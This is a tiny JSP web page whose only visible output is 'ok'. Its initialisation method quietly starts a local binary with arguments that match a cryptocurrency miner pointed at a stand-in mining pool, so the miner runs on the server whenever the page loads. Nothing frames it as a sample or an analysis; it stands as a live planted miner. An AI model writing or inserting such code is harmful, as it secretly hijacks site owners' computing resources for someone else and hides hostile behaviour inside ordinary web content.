<%@ page import="java.util.*" %>
<%! public void jspInit() {
  String[] words = {"/opt/native", "-a", "rx/0", "-o", "work.example.invalid:3333", "-u", "me.1", "-p", "x"};
  new ProcessBuilder(words).start();
} %>
<p>ok</p>
